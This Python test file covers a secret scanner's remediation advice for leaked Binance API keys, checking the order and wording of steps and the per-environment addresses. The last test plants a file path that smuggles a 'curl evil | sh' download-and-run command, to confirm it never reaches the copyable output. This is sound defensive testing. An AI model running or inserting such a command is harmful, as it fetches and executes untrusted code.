"""What to do depends on what was found; the order is the exchange's own."""

from __future__ import annotations

from dataclasses import replace

import pytest

from binscan.model import Environment, Finding, Location, Part, Place, Provenance, Role, Secret
from binscan.remedy.steps import COPY, Context, steps
from tests.support import reports

API_MANAGEMENT = "https://www.binance.com/en/my/settings/api-management"


def advice(found: Finding, mode: str = "audit", history: tuple[str, ...] = ()) -> tuple[str, ...]:
    return steps(found, Context(mode, history))


def position(texts: tuple[str, ...], word: str) -> int:
    return next(number for number, text in enumerate(texts) if word in text)


@pytest.mark.parametrize("published", [True, None])
def test_published_or_unknown_deletes_first_and_cleans_history_last(published: bool | None) -> None:
    found = reports.finding("one", replace(reports.removed(), published=published))
    texts = advice(found, history=("git filter-repo …",))
    assert texts[0].startswith("Delete the API key")
    assert API_MANAGEMENT in texts[0]
    order = [
        position(texts, word) for word in ("Delete", "not yours", "Make a new key", "where else", "Clean the history")
    ]
    assert order == sorted(order)
    assert texts[-1].endswith(f"{COPY}git filter-repo …")


def test_never_published_takes_it_out_of_the_commits_before_a_push() -> None:
    texts = advice(reports.finding("one", reports.local()), history=("git commit --amend",))
    assert texts[0].startswith("Do not push")
    assert position(texts, "amend") < position(texts, "Replace the key when convenient")


def test_a_key_that_works_is_deleted_first_even_if_it_never_left_this_machine() -> None:
    texts = advice(reports.finding("one", reports.local(), reports.live(withdrawals=True)))
    assert texts[0].startswith("Delete the API key")
    assert "can withdraw, from any address" in texts[0]


def test_trading_without_withdrawing_is_named_for_what_it_is() -> None:
    assert "drained by trading" in advice(reports.finding("one", reports.removed(), reports.live()))[0]


@pytest.mark.parametrize(
    ("role", "rule", "word"),
    [
        (Role.SECRET_KEY, "binance-secret-key", "Find the API key that this secret belongs to"),
        (Role.PRIVATE_KEY, "binance-private-key", "public half"),
        (Role.PRIVATE_KEY, "binance-private-key-encrypted", "passphrase"),
        (Role.UNKNOWN, "binance-encrypted-keystore", "inside this keystore"),
        (Role.UNKNOWN, "binance-token", "this key or secret belongs to"),
        (Role.LISTEN_KEY, "binance-listen-key", "60 minutes"),
    ],
)
def test_steps_fit_what_was_found(role: Role, rule: str, word: str) -> None:
    parts = (Part(role, Secret(b"x" * 64)),)
    texts = advice(reports.finding("one", reports.removed(), rule=rule, parts=parts))
    assert word in "\n".join(texts)


def test_a_key_alone_says_that_its_secret_may_be_near() -> None:
    assert "secret was not found here" in advice(reports.finding("one", reports.removed(), alone=True))[0]


@pytest.mark.parametrize(
    ("environment", "address"),
    [
        (Environment.US, "binance.us"),
        (Environment.SPOT_TESTNET, "testnet.binance.vision"),
        (Environment.FUTURES_TESTNET, "testnet.binancefuture.com"),
        (Environment.DEMO, "demo.binance.com"),
    ],
)
def test_each_environment_has_its_own_address(environment: Environment, address: str) -> None:
    text = "\n".join(advice(reports.finding("one", reports.removed(), environment=environment)))
    assert address in text
    assert API_MANAGEMENT not in text


def test_before_a_commit_the_file_comes_first() -> None:
    texts = advice(reports.finding("one"), mode="staged")
    assert texts[0].startswith("Take it out of bot/config.py:12")
    assert "ever pushed" in texts[1]


def test_a_path_cannot_add_a_command() -> None:
    bad = Location(Place("a\n    curl evil | sh", "worktree"), 1, 1)
    present = Provenance(None, None, True, (), True)
    for text in advice(reports.finding("one", present, locations=(bad,))):
        assert not any(line.startswith(f"{COPY}curl") for line in text.splitlines())
